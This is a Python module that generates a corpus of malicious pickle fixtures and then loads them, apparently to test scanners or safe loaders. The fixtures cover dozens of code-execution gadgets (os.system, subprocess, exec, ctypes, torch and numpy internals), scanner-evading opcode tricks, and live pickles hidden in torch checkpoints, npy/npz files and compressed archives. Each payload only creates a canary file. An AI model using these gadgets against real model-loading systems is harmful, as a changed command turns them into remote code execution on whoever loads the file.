"""Pickles that do something when they are loaded: each leaves a canary file. Run as a script, it loads them all as careless programs do.

A gadget is what a pickle calls, a form is the opcodes that it calls it with, a container is the file that it lies in.
"""

import bz2
import cProfile
import ctypes
import gzip
import importlib
import io
import logging
import lzma
import marshal
import operator
import os
import pickle
import pkgutil
import pydoc
import subprocess
import sys
import tarfile
import tempfile
import timeit
import zlib
from collections.abc import Callable
from contextlib import suppress
from functools import partial
from pathlib import Path
from typing import Any

import numpy as np
import torch

MAGIC, PROTOCOL = 0x1950A86A20F9469CFC6C, 1001  # of torch's legacy container


class Call:
    """Becomes func(*args) when it is unpickled; func and args may be calls again."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.func, self.args


def through(call: Call, *args: Any) -> Call:
    """Calls what another call returns."""
    return Call(operator.call, call, *args)


def named(name: str) -> Call:
    """What "module:name" names, looked up while unpickling."""
    return Call(pkgutil.resolve_name, name)


def gadgets(canary: str) -> dict[str, Any]:
    """Name -> an object whose pickle, when loaded, makes the file or folder `canary`."""
    shell, source = f"touch '{canary}'", f"open({canary!r}, 'w').close()"
    rpc = "torch.distributed.rpc.internal"
    code = marshal.dumps(compile(source, "x", "exec"))
    return {
        "os.system": Call(os.system, shell),
        "os.popen": Call(operator.methodcaller("read"), Call(os.popen, shell)),
        "os.mkdir": Call(os.mkdir, canary),
        "os.mkfifo": Call(os.mkfifo, canary),
        "os.symlink": Call(os.symlink, "/nowhere", canary),
        "os.open": Call(os.open, canary, os.O_CREAT | os.O_WRONLY),
        "os.spawnlp": Call(os.spawnlp, os.P_WAIT, "touch", "touch", canary),
        "builtins.exec": Call(exec, source),
        "builtins.eval": Call(eval, f"__import__('os').mkdir({canary!r})"),
        "builtins.open": Call(open, canary, "w"),
        "builtins.getattr": through(Call(getattr, Call(Path, canary), "touch")),
        "io.FileIO": Call(io.FileIO, canary, "w"),
        "bz2.BZ2File": Call(bz2.BZ2File, canary, "w"),
        "tarfile.open": Call(tarfile.open, canary, "w"),
        "logging.FileHandler": Call(logging.FileHandler, canary),
        "subprocess.check_call": Call(subprocess.check_call, ["touch", canary]),
        "subprocess.getoutput": Call(subprocess.getoutput, shell),
        "subprocess.Popen": Call(operator.methodcaller("wait"), Call(subprocess.Popen, ["touch", canary])),
        "functools.partial": through(Call(partial, os.mkdir), canary),
        "operator.methodcaller": through(Call(operator.methodcaller, "touch"), Call(Path, canary)),
        "operator.attrgetter": through(through(Call(operator.attrgetter, "mkdir"), Call(__import__, "os")), canary),
        "pkgutil.resolve_name": through(named("os:mkdir"), canary),
        "importlib.import_module": through(Call(getattr, Call(importlib.import_module, "os"), "mkdir"), canary),
        "timeit.timeit": Call(timeit.timeit, source, "pass", timeit.default_timer, 1),
        "cProfile.run": Call(cProfile.run, source, "/dev/null"),
        "pydoc.pipepager": Call(pydoc.pipepager, "", shell),
        "marshal.loads": Call(exec, Call(marshal.loads, code)),
        "types.FunctionType": through(through(named("types:FunctionType"), Call(marshal.loads, code), {})),
        "ctypes.CDLL": through(Call(getattr, Call(ctypes.CDLL, None), "system"), shell.encode()),
        "nested unpickling": Call(pickle.loads, pickle.dumps(Call(os.mkdir, canary))),
        "numpy runstring": through(named("numpy.testing._private.utils:runstring"), source, {}),
        "torch collect_env": through(named("torch.utils.collect_env:run"), shell),
        "torch execWrapper": through(named("torch.jit.unsupported_tensor_ops:execWrapper"), source, {}, {}),
        "torch rpc": through(named(f"{rpc}:_run_function"), through(named(f"{rpc}:PythonUDF"), os.mkdir, (canary,), {})),
    }


def forms(canary: str) -> dict[str, bytes]:
    """Name -> a pickle that calls os.mkdir, or a function of its kind, with unusual opcodes."""
    path = canary.encode()
    text = b"X" + len(path).to_bytes(4, "little") + path  # BINUNICODE
    plain = b"cos\nmkdir\n(V" + path + b"\ntR."
    state = b"(cos\nmkdir\n(" + text + b"t}Nt"  # what functools.partial.__setstate__ takes
    return {
        "GLOBAL": plain,
        "INST": b"(V" + path + b"\nios\nmkdir\n.",
        "OBJ": b"(cos\nmkdir\nV" + path + b"\no.",
        "STACK_GLOBAL": b"\x80\x04\x8c\x02os\x8c\x05mkdir\x93" + text + b"\x85R.",
        "STACK_GLOBAL with a dotted name": b"\x80\x04\x8c\x07pathlib\x8c\x08os.mkdir\x93" + text + b"\x85R.",
        "BUILD calls __setstate__": b"\x80\x02cfunctools\npartial\n(cbuiltins\nlen\ntR" + state + b"b)R.",
        "BUILD sets attributes": b"\x80\x02cargparse\nFileType\n(Vw\ntR}(V_mode\nVw\nub" + text + b"\x85R0cio\nFileIO\n(" + text + b"Vw\ntR.",
        "memo": b"cos\nmkdir\np7\n0g7\n(V" + path + b"\ntR.",
        "in a state dict": pickle.dumps({"state_dict": {"weight": Call(os.mkdir, canary), "step": 3}, "epoch": 1}),
        "payload, then garbage": plain[:-1] + b"\xff\xfe garbage",
        "a harmless pickle first": pickle.dumps({"epoch": 1}, 2) + plain,
        "a megabyte first": b"X" + (1 << 20).to_bytes(4, "little") + b"a" * (1 << 20) + b"0" + plain,
        **{f"protocol {number}": pickle.dumps(Call(os.mkdir, canary), number) for number in range(6)},
    }


def containers(canary: str) -> dict[str, bytes]:
    """Name -> a file that holds a live pickle in a container."""
    live = Call(os.mkdir, canary)
    raw = pickle.dumps(live)
    made: dict[str, bytes] = {}
    for name, modern in (("torch zip", True), ("torch legacy", False)):
        buffer = io.BytesIO()
        torch.save({"weight": torch.zeros(2), "live": live}, buffer, _use_new_zipfile_serialization=modern)
        made[name] = buffer.getvalue()
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:") as tar:
        for name, contents in (("sys_info", [{}]), ("storages", [0, []]), ("tensors", [0]), ("pickle", [live])):
            data = b"".join(pickle.dumps(content, 2) for content in contents)
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    made["torch tar"] = buffer.getvalue()
    made["torch legacy, live in its system information"] = b"".join(pickle.dumps(part, 2) for part in (MAGIC, PROTOCOL, live))
    made["torch legacy, live in its keys"] = b"".join(pickle.dumps(part, 2) for part in (MAGIC, PROTOCOL, {"little_endian": True}, {}, live))
    objects = np.array([live], dtype=object)
    for name, save in (("npy", np.save), ("npz", np.savez), ("npz, compressed", np.savez_compressed)):
        buffer = io.BytesIO()
        save(buffer, objects)
        made[name] = buffer.getvalue()
    made |= {"gzip": gzip.compress(raw), "bz2": bz2.compress(raw), "lzma": lzma.compress(raw), "zlib": zlib.compress(raw)}
    return made


def fixtures(folder: Path) -> dict[str, bytes]:
    """Every fixture by its name; the one numbered i has the canary `folder / str(i)`."""
    made: dict[str, bytes] = {}

    def number() -> str:
        return str(folder / str(len(made)))

    for name in gadgets(""):
        made[f"gadget {name}"] = pickle.dumps(gadgets(number())[name])
    for name in forms(""):
        made[f"opcodes: {name}"] = forms(number())[name]
    for name in containers("x"):
        made[f"container: {name}"] = containers(number())[name]
    return made


def load_carelessly(data: bytes) -> None:
    """Load as programs do that trust a file, in every way that there is."""
    unpacked: list[Callable[[bytes], bytes]] = [lambda whole: whole, gzip.decompress, bz2.decompress, lzma.decompress, zlib.decompress]
    for unpack in unpacked:
        with suppress(Exception):
            stream = io.BytesIO(unpack(data))
            while stream.tell() < len(stream.getbuffer()):
                pickle.load(stream)
    with tempfile.NamedTemporaryFile() as file, suppress(Exception):
        file.write(data)
        file.flush()
        torch.load(file.name, weights_only=False)
    with suppress(Exception):
        loaded = np.load(io.BytesIO(data), allow_pickle=True)
        if not isinstance(loaded, np.ndarray):
            list(loaded.values())


if __name__ == "__main__":
    for live in fixtures(Path(sys.argv[1])).values():
        load_carelessly(live)
